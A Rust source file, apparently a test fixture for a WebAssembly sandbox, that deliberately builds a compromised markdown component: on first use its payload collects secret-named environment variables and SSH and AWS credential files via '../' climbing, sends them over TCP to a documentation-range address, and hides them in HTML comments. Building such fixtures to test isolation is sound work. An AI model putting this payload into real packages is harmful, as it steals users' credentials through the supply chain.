//! A compromised release of the markdown component, built the way real
//! supply-chain attacks are: the genuine library (the very same rendering
//! code as `guests/markdown`) plus a payload that runs on first use.
//!
//! The payload looks for secrets in the environment, looks for SSH and
//! cloud credentials in every directory it was given and in those above
//! (climbing out with `..`, to reach a home directory), and sends what it
//! found to a server of its own. It also hides what it found in the HTML it
//! returns, so an app whose pages come out exactly as the genuine library
//! renders them has provably leaked nothing through its output either.

#[rustfmt::skip]
#[allow(warnings, clippy::all)]
mod bindings;
#[path = "../../markdown/src/extensions.rs"]
mod extensions;
#[path = "../../markdown/src/render.rs"]
mod render;

use std::sync::atomic::{AtomicBool, Ordering};

use bindings::exports::nanoproc::markdown::render::{Guest, Heading, Options};
use bindings::wasi::cli::environment::get_environment;
use bindings::wasi::filesystem::preopens::get_directories;
use bindings::wasi::filesystem::types::{Descriptor, DescriptorFlags, OpenFlags, PathFlags};
use bindings::wasi::sockets::instance_network::instance_network;
use bindings::wasi::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
use bindings::wasi::sockets::tcp::ErrorCode;
use bindings::wasi::sockets::tcp_create_socket::create_tcp_socket;

/// The attacker's server (an address reserved for documentation).
const DROP_SERVER: ((u8, u8, u8, u8), u16) = ((203, 0, 113, 7), 443);

/// Files worth stealing, relative to a home directory.
const CREDENTIALS: &[&str] = &[".ssh/id_rsa", ".aws/credentials"];

/// How far up from a given directory the payload climbs looking for a home.
const CLIMB: usize = 2;

/// Whether the payload has run in this instance.
static RAN: AtomicBool = AtomicBool::new(false);

struct Markdown;

impl Guest for Markdown {
    fn to_html(markdown: String, options: Options) -> String {
        let loot = if RAN.swap(true, Ordering::Relaxed) {
            Vec::new()
        } else {
            payload()
        };
        let mut html = render::to_html(&markdown, options);
        for (source, value) in loot {
            html.push_str(&format!("<!-- {source}: {value} -->\n"));
        }
        html
    }

    fn outline(markdown: String, options: Options) -> Vec<Heading> {
        render::outline(&markdown, options)
    }
}

/// Steals what it can and sends it home; returns what it found, by source.
fn payload() -> Vec<(String, String)> {
    let mut loot: Vec<(String, String)> = get_environment()
        .into_iter()
        .filter(|(name, _)| {
            ["SECRET", "TOKEN", "PASSWORD", "KEY"]
                .iter()
                .any(|word| name.contains(word))
        })
        .collect();
    for (dir, _) in get_directories() {
        for file in CREDENTIALS {
            for up in 0..=CLIMB {
                let path = format!("{}{file}", "../".repeat(up));
                if let Some(contents) = read(&dir, &path) {
                    loot.push((path, contents));
                }
            }
        }
    }
    send(&loot);
    loot
}

/// The contents of `path` opened from `dir`, if the host lets it through.
fn read(dir: &Descriptor, path: &str) -> Option<String> {
    let file = dir
        .open_at(
            PathFlags::SYMLINK_FOLLOW,
            path,
            OpenFlags::empty(),
            DescriptorFlags::READ,
        )
        .ok()?;
    let (bytes, _) = file.read(64 * 1024, 0).ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// Sends `loot` to the attacker's server, if the host lets a connection out.
fn send(loot: &[(String, String)]) {
    let ((a, b, c, d), port) = DROP_SERVER;
    let Ok(socket) = create_tcp_socket(IpAddressFamily::Ipv4) else {
        return;
    };
    let server = IpSocketAddress::Ipv4(Ipv4SocketAddress {
        port,
        address: (a, b, c, d),
    });
    if socket.start_connect(&instance_network(), server).is_err() {
        return;
    }
    let (_input, output) = loop {
        match socket.finish_connect() {
            Ok(streams) => break streams,
            Err(ErrorCode::WouldBlock) => socket.subscribe().block(),
            Err(_) => return,
        }
    };
    for (source, value) in loot {
        let _ = output.blocking_write_and_flush(format!("{source}={value}\n").as_bytes());
    }
}

bindings::export!(Markdown with_types_in bindings);
